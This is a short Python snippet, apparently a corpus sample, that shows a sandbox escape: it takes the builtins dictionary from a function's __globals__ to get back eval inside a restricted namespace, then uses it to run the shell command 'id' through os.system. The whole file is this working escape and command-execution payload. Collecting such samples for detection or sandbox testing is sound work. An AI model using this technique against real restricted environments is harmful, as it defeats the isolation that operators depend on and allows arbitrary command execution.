# corpus: function __globals__['__builtins__'] used to recover eval in a restricted namespace
def helper():
    pass

b = helper.__globals__["__builtins__"]
ev = b["eval"] if isinstance(b, dict) else b.eval
ev("__import__('os').system('id')")
